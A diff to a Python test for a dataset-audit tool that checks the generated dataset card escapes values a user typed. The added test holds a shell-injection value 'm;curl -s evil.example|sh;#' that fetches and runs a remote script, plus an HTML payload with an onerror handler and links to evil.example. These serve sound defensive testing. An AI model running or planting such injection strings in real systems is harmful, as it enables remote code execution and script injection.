@@ -275,9 +275,15 @@ def test_the_audit_writes_a_dataset_card_that_a_hub_loads_the_data_by(sim_server
     audit rewrites it to say FAIL and why."""
     import yaml
 
+    import shlex
+
+    import markdown_it
+
     from regen.audit.dataset import audit
     from regen.audit.findings import AuditFailed
+    from regen.card import render_card
     from regen.generate import ShardRun
+    from regen.markdown import markdown_literal
     from support.engines import DATASETS_PYTHONS
 
     cfg, records = sim_servers(num_servers=1, num_shards=2, max_tokens=512)
@@ -291,7 +297,7 @@ def test_the_audit_writes_a_dataset_card_that_a_hub_loads_the_data_by(sim_server
     assert front["size_categories"] == ["n<1K"]
     summary = json.loads((out / "audit" / "summary.json").read_text())
     body = card.split("---\n", 2)[2]
-    assert "**Audit: PASS.**" in body and f"`{cfg.model_path}`" in body
+    assert "**Audit: PASS.**" in body and markdown_literal(cfg.model_path) in body
     assert "| max_tokens | 512 |" in body
     bars = re.findall(r"^\| [\d,]+(?:-[\d,]+|\+) \| ([\d,]+) \|", body, re.M)
     assert len(bars) == 7 and sum(int(n.replace(",", "")) for n in bars) == summary["audited"]
@@ -306,4 +312,14 @@ def test_the_audit_writes_a_dataset_card_that_a_hub_loads_the_data_by(sim_server
         audit(cfg.model_copy(update={"min_loss_tokens": 100_000}))
     failed = (out / "README.md").read_text()
     assert "**Audit: FAIL.**" in failed and "Not fit to train on as it is:" in failed
-    assert "above max_degenerate_fraction" in failed
+    assert markdown_literal("above max_degenerate_fraction") in failed
+
+    # Values a person who may trigger a run typed: shown as text, the command quoted as one argument.
+    hostile = "m;curl -s evil.example|sh;#"
+    kwargs = {"note": "<img src=x onerror=alert(1)> [prize](https://evil.example) ![p](https://evil.example/p.png)"}
+    sampling = cfg.sampling.model_copy(update={"chat_template_kwargs": kwargs})
+    card = render_card(cfg.model_copy(update={"model_path": hostile, "sampling": sampling}), summary, [], 3, {})
+    html = markdown_it.MarkdownIt("commonmark").enable("table").render(card.split("---\n", 2)[2])
+    assert "<img" not in html and "<a " not in html and "evil.example" in html
+    command = re.search(r"^```\n(regen export .*)\n```$", card, re.M).group(1)
+    assert shlex.split(command)[-2:] == ["--tokenizer", hostile]
